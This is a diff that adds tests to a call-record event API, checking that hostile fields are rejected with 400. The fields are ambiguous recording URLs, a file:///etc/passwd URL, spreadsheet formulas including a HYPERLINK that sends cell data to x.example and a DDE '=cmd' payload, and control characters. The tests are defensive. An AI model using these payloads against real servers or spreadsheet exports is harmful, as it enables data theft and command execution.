@@ -120,6 +120,65 @@ class TestEventApi(EventApiMixin, HttpCase):
                 self.assertEqual(response.json()["details"][0]["field"], field)
         self.assertFalse(self.calls())
 
+    def test_recording_urls_that_parsers_read_differently_are_400(self):
+        # Such a URL can name one server to a check and another to the
+        # request that follows it (with the recordings password).
+        for url in (
+            "http://attacker.example\\@pbx.example/monitor/x.wav",
+            "http://user:pass@pbx.example/monitor/x.wav",
+            "http://attacker.example @pbx.example/x.wav",
+            "http://pbx.example/monitor/x.wav\tlocal",
+            "http://pbx.example\x00.attacker.example/x.wav",
+            "http://pbx.example:port/x.wav",
+            "file:///etc/passwd",
+        ):
+            with self.subTest(url=url):
+                event = cdr_event("odd-url", T0, recording_url=url)
+                response = self.post_events([event], self.token)
+                self.assertEqual(response.status_code, 400)
+                self.assertEqual(
+                    response.json()["details"][0]["field"], "recording_url"
+                )
+        self.assertFalse(self.calls())
+
+    def test_control_characters_and_formulas_are_400(self):
+        # A NUL cannot be stored (it was a 500, and a PBX retrying the batch
+        # stalled on it), and a caller number such as =1+1 became a formula
+        # in the Call Log's spreadsheet export.
+        hostile = [
+            ("call_id", "a\u0000"),
+            ("from", "\u0000"),
+            ("from", "=1+1"),
+            ("from", '=HYPERLINK("http://x.example/?"&A1,"call")'),
+            ("from", "+7 916\u202e123"),
+            ("to", "101\n=cmd|' /C calc'!A0"),
+            ("did", "@SUM(1)"),
+            ("extension", "10\u00001"),
+            ("rang_extensions", ["101", "10\u001b2"]),
+            ("recording_url", "https://pbx.example/x\u0000.wav"),
+        ]
+        for field, value in hostile:
+            with self.subTest(field=field, value=value):
+                event = {**cdr_event("hostile", T0), field: value}
+                response = self.post_events([event], self.token)
+                self.assertEqual(response.status_code, 400)
+                self.assertEqual(response.json()["details"][0]["field"], field)
+        self.assertFalse(self.calls())
+
+    def test_numbers_in_any_human_format_and_dialplan_words_pass(self):
+        values = [
+            {"from": "+7 (916) 123-45-67", "to": "8.495.123.45.00", "did": "*97#"},
+            {"from": "anonymous", "to": "s"},
+            {"from": "101", "to": "vmu101", "direction": "internal"},
+        ]
+        events = [cdr_event(f"human-{n}", T0, **v) for n, v in enumerate(values)]
+        response = self.post_events(events, self.token)
+        self.assertEqual(response.status_code, 200, response.text)
+        self.assertEqual(
+            sorted(self.calls().mapped("src")),
+            ["+7 (916) 123-45-67", "101", "anonymous"],
+        )
+
     def test_not_json_is_415_and_bad_json_is_400(self):
         self.assertEqual(
             self.post_events([], self.token, content_type="text/plain").status_code, 415
